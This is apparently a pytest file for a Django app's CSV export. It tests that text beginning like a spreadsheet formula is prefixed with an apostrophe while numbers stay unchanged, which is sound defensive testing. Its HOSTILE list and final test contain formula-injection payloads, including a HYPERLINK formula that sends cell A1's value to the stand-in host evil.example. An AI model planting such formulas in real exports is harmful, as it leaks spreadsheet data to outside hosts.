"""Every CSV the server writes is safe to open in a spreadsheet: a streamed text that begins like
a formula is written as text (a leading apostrophe, as OWASP advises); numbers stay numbers."""

import csv
import io

import pytest

from core.csv_export import csv_pages, neutralised
from core.models import Plot, Trace

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", "+1+2", "-2+3", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["-3.5", "+7", "1e-3", "plain", "", "2026-01-01T00:00:00Z", "a=b"])
def test_numbers_written_as_text_and_ordinary_text_stay_as_they_are(text):
    assert neutralised(text) == text


def test_the_csv_writer_neutralises_text_and_keeps_numbers():
    page = ({"x": [-1, 2.5], "y": [3, -4], "text": ["@SUM(1+1)", "-5"]}, 2)
    rows = list(csv.reader(io.StringIO(b"".join(csv_pages([page])).decode())))
    by_column = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert by_column == [{"x": "-1", "y": "3", "text": "'@SUM(1+1)"}, {"x": "2.5", "y": "-4", "text": "-5"}]


def test_the_window_csv_of_a_streamed_formula_is_text(client, alice):
    plot = Plot.objects.create(owner=alice, title="formulas")
    spec = {"type": "scatter", "x": [1, 2], "y": [3, 4], "text": ['=HYPERLINK("http://evil.example","click")', "ok"]}
    Trace.objects.create(plot=plot, index=0, spec=spec)
    rows = list(csv.reader(io.StringIO(client.get(f"/~alice/{plot.pk}/traces/0.csv").content.decode())))
    assert dict(zip(rows[0], rows[1], strict=True))["text"] == '\'=HYPERLINK("http://evil.example","click")'
